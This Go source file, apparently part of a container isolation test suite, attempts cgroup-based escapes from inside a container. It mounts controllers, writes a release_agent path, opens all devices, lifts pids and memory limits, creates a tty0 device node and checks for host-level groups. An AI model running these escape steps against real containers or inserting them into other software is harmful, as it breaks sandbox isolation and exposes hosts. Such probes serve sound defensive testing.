package hostile

import (
	"bufio"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// cgroup tries to get rid of limits and to have the host run a program: release_agent of version 1, device rules, processes moved
// out of the own group.
func cgroup() {
	for _, name := range controllers() {
		dir := "/tmp/cgroup." + name
		_ = os.MkdirAll(dir, 0o755)
		kind, data := "cgroup", name
		if name == "" {
			kind = "cgroup2"
		}
		if err := unix.Mount("none", dir, kind, 0, data); err != nil {
			step("mount control groups "+name, err)
			continue
		}
		escape(name, dir)
		_ = unix.Unmount(dir, unix.MNT_DETACH)
	}
}

func controllers() []string {
	f, err := os.Open("/proc/self/cgroup")
	if err != nil {
		return nil
	}
	defer f.Close()
	var names []string
	for s := bufio.NewScanner(f); s.Scan(); {
		if parts := strings.SplitN(s.Text(), ":", 3); len(parts) == 3 {
			names = append(names, parts[1])
		}
	}
	return names
}

func escape(name, dir string) {
	write := func(file, value string) error {
		f, err := os.OpenFile(filepath.Join(dir, file), os.O_WRONLY, 0)
		if err != nil {
			return err
		}
		defer f.Close()
		_, err = f.WriteString(value)
		return err
	}
	step("set release_agent of "+name, write("release_agent", "/attack"))
	switch name {
	case "devices":
		_ = write("devices.allow", "a")
		step("lift the device rules", useForbidden())
	case "pids", "": // whether these help is for the test to see
		_ = write("pids.max", "max")
		_ = write("memory.max", "max")
	case "memory":
		_ = write("memory.limit_in_bytes", "-1")
	}
	// Whoever is at the top of what can be seen is in a group of its own: there is no way further up.
	step("a group above the own in "+name, above(dir))
}

// useForbidden opens a device that no container has, though anybody may read it.
func useForbidden() error {
	_ = unix.Mknod("/tmp/tty0", unix.S_IFCHR|0o666, int(unix.Mkdev(4, 0)))
	return open("/tmp/tty0")
}

// above tells whether the groups of the host's can be seen.
func above(dir string) error {
	found, _ := filepath.Glob(filepath.Join(dir, "lxc.*"))
	if len(found) > 0 {
		return nil
	}
	return unix.EXDEV
}
